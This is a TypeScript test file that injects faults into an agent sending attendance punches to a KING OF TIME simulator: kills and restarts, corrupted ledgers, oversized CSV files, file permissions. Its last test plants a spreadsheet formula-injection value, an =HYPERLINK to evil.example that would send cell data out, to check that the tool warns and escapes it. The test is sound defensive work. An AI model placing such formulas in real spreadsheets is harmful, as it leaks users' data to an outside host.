// Fault injection against the KING OF TIME simulator: the agent killed with SIGKILL and started
// again after several delays (a service manager's RestartSec lands past the lock's staleness),
// and the ledger damaged in each way a disk, a backup tool or a person can damage it. Nothing is
// sent twice: a ledger that can no longer tell what was sent refuses to send.

import { randomBytes } from 'node:crypto';
import { open, readFile, rm, stat, truncate, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { writeLinksCsv } from '@pclogin/core';
import { expect, test } from 'vitest';
import { type AgentSetup, clockAt, linkRows, plusMinutes, statusOf } from '../support/agent-setup.js';
import { agentSetupsPerTest } from '../support/agent-setups-per-test.js';
import { expectExit, kill } from '../support/cli-process.js';
import { expectKotHolds } from '../support/kot-expectations.js';
import { people, workLogs, writeLogFiles } from '../support/workforce.js';

const NOW = '2024-03-15T12:00:00+09:00';
const setUpAgent = agentSetupsPerTest();

/** Five people, two days: 20 punches, all sent by one pass. */
async function twentySent() {
  const staff = people(5);
  const { rows, expected } = workLogs(staff, '2024-03-04', 2, 5);
  const setup = await setUpAgent(staff, { simClock: clockAt(NOW), sim: { restrictedHours: false } });
  await writeLogFiles(setup.logs, rows);
  expectExit(await setup.run(['run', '--once'], NOW), 0);
  expect(setup.sim.timerecords()).toHaveLength(20);
  expectKotHolds(setup.sim, staff, expected);
  return { setup, staff, expected };
}

const ledger = (s: AgentSetup) => join(s.state, 'ledger');
const wal = (s: AgentSetup) => join(ledger(s), 'wal.jsonl');

test.each([
  ['SIGKILL, restart after 0 s', 0],
  ['SIGKILL, restart after 5 s', 5],
  ['SIGKILL, restart after 15 s', 15],
  ['SIGKILL, restart after 60 s', 60],
])(
  '%s: the agent starts and sends nothing twice',
  async (_, seconds) => {
    const staff = people(5);
    const { rows, expected } = workLogs(staff, '2024-03-04', 2, 5);
    const setup = await setUpAgent(staff, { simClock: clockAt(NOW), sim: { restrictedHours: false } });
    await writeLogFiles(setup.logs, rows);
    const service = setup.start(['run'], NOW);
    await service.waitFor(/pass done/);
    await kill(service);
    // The lock as a dead holder leaves it, aged as if the restart came `seconds` later.
    const lock = join(ledger(setup), 'ledger.lock');
    expect((await stat(lock)).isDirectory()).toBe(true);
    const then = new Date(Date.now() - seconds * 1000);
    await utimes(lock, then, then);
    const doctor = await setup.run(['doctor', '--json'], plusMinutes(NOW, 1));
    const lockCheck = (JSON.parse(doctor.stdout) as { checks: { id: string; status: string }[] }).checks.find(
      (c) => c.id === 'ledger-lock',
    );
    expect(lockCheck?.status).toBe('warn');
    expectExit(await setup.run(['run', '--once'], plusMinutes(NOW, 1)), 0);
    expectKotHolds(setup.sim, staff, expected);
  },
  60_000,
);

const damages: [string, (s: AgentSetup) => Promise<void>][] = [
  [
    'the log filled with random bytes',
    async (s) => writeFile(wal(s), randomBytes((await stat(wal(s))).size)),
  ],
  ['the log filled with zeros', async (s) => writeFile(wal(s), Buffer.alloc((await stat(wal(s))).size))],
  ['the log emptied', (s) => writeFile(wal(s), '')],
  ['the log deleted', (s) => rm(wal(s))],
  ['the log cut in half', async (s) => truncate(wal(s), Math.floor((await stat(wal(s))).size / 2))],
  ['the ledger folder deleted', (s) => rm(ledger(s), { recursive: true })],
  ['the snapshot deleted after compaction', (s) => rm(join(ledger(s), 'snapshot.jsonl'))],
];

test.each(damages)(
  '%s: the agent refuses to send (LEDGER_CORRUPT, --repair) and KOT holds each punch once',
  async (name, damage) => {
    const { setup, staff, expected } = await twentySent();
    if (name.includes('snapshot')) {
      // A repair writes the whole ledger into a snapshot and empties the log, as compaction does.
      expectExit(await setup.run(['run', '--once', '--repair'], plusMinutes(NOW, 1)), 0);
      await stat(join(ledger(setup), 'snapshot.jsonl'));
    }
    await damage(setup);
    const refused = await setup.run(['run', '--once'], plusMinutes(NOW, 5));
    expectExit(refused, 1);
    expect(refused.stderr).toMatch(/LEDGER_CORRUPT[\s\S]*--repair/);
    expect(setup.sim.timerecords()).toHaveLength(20);
    const doctor = await setup.run(['doctor'], plusMinutes(NOW, 5));
    expect(doctor.stdout).toMatch(/fail\s+ledger .*refuses to send/);
    // The way out: --repair checks KING OF TIME first and sends nothing twice.
    expectExit(await setup.run(['run', '--once', '--repair'], plusMinutes(NOW, 10)), 0);
    for (let pass = 0; pass < 2; pass++)
      expectExit(await setup.run(['run', '--once'], plusMinutes(NOW, 20 + pass * 10)), 0);
    expect((await statusOf(setup, plusMinutes(NOW, 60))).counts).toMatchObject({ planned: 0, failed: 0 });
    expectKotHolds(setup.sim, staff, expected);
  },
  60_000,
);

/** Writes `size` bytes of `fill` after `head`, in pieces, without holding the whole file in memory. */
async function writeLarge(path: string, head: string, fill: string, size: number) {
  const file = await open(path, 'w');
  try {
    await file.write(head);
    const piece = Buffer.from(fill.repeat(Math.ceil((1024 * 1024) / fill.length)));
    for (let written = 0; written < size; written += piece.length) await file.write(piece);
  } finally {
    await file.close();
  }
}

test('hostile files oldest in the folder: the newer files are still delivered, in one pass', async () => {
  const staff = people(5);
  const { rows, expected } = workLogs(staff, '2024-03-04', 2, 5);
  const setup = await setUpAgent(staff, { simClock: clockAt(NOW), sim: { restrictedHours: false } });
  await writeLogFiles(setup.logs, rows);
  // Oldest by name and by time: a quoted value that runs on for 24 MiB without a line end, and
  // a file of blank lines (no layout can be found in it).
  const header = '日時,SmartOnアカウント,Windowsアカウント,コンピュータ名,IPアドレス,イベント\r\n"a",';
  await writeLarge(join(setup.logs, 'SSOLog_20240301.csv'), header, 'x', 24 * 1024 * 1024);
  await writeLarge(join(setup.logs, 'SSOLog_20240302.csv'), '', '\r\n', 2 * 1024 * 1024);
  const old = new Date(Date.parse('2024-03-02T00:00:00Z'));
  for (const name of ['SSOLog_20240301.csv', 'SSOLog_20240302.csv'])
    await utimes(join(setup.logs, name), old, old);
  const first = await setup.run(['run', '--once'], NOW);
  expectExit(first, 0);
  expect(first.stderr).toMatch(/record-too-long/);
  expectKotHolds(setup.sim, staff, expected);
  // A second pass sends nothing again.
  const second = await setup.run(['run', '--once'], plusMinutes(NOW, 5));
  expectExit(second, 0);
  expectKotHolds(setup.sim, staff, expected);
}, 120_000);

test('SIGTERM as soon as the agent starts reading a large hostile file: it stops, exits 0, and goes on next time', async () => {
  const staff = people(3);
  const { rows, expected } = workLogs(staff, '2024-03-04', 2, 5);
  const setup = await setUpAgent(staff, { simClock: clockAt(NOW), sim: { restrictedHours: false } });
  await writeLogFiles(setup.logs, rows);
  const header = '日時,SmartOnアカウント,Windowsアカウント,コンピュータ名,IPアドレス,イベント\r\n"a",';
  await writeLarge(join(setup.logs, 'SSOLog_20240301.csv'), header, 'x', 64 * 1024 * 1024);
  const agent = setup.start(['run'], NOW);
  await agent.waitFor('linking CSV loaded');
  agent.child.kill('SIGTERM');
  await agent.waitFor('SIGTERM received');
  expectExit(await agent.result, 0);
  expectExit(await setup.run(['run', '--once'], plusMinutes(NOW, 5)), 0);
  expectKotHolds(setup.sim, staff, expected);
}, 120_000);

test.runIf(process.platform !== 'win32')(
  'files and folders the agent writes are its owner’s only (0600 / 0700)',
  async () => {
    const { setup } = await twentySent();
    const exported = join(setup.dir, 'exported.csv');
    expectExit(await setup.run(['links', 'export', '--out', exported], NOW), 0);
    expectExit(await setup.run(['links', 'import', exported], NOW), 0);
    const mode = async (path: string) => (await stat(path)).mode & 0o777;
    expect(await mode(setup.state)).toBe(0o700);
    expect(await mode(ledger(setup))).toBe(0o700);
    for (const file of ['wal.jsonl', 'head.jsonl'])
      expect([file, await mode(join(ledger(setup), file))]).toEqual([file, 0o600]);
    expect(await mode(join(setup.state, 'pclogin-state.json'))).toBe(0o600);
    expect(await mode(exported)).toBe(0o600);
    expect(await mode(setup.linksFile)).toBe(0o600);
  },
  60_000,
);

test('a linking CSV with formula-like values: links check warns, links export writes them as text', async () => {
  const staff = people(2);
  const setup = await setUpAgent(staff, { simClock: clockAt(NOW), sim: { restrictedHours: false } });
  const rows = linkRows(staff);
  rows[0] = { ...rows[0]!, serviceAccount: '=HYPERLINK("http://evil.example/?x="&A1,"click")' };
  await writeFile(setup.linksFile, writeLinksCsv(rows, { encoding: 'utf-8' }));
  const check = await setup.run(['links', 'check'], NOW);
  expect(check.stdout).toMatch(/links\.csv:2: .*spreadsheet formula/);
  const exported = join(setup.dir, 'exported.csv');
  expectExit(await setup.run(['links', 'export', '--out', exported, '--encoding', 'utf-8'], NOW), 0);
  const text = (await readFile(exported, 'utf8')).replace(/^\uFEFF/, '');
  for (const line of text.split('\r\n').slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  expect(text).toContain(`'=HYPERLINK`);
}, 60_000);
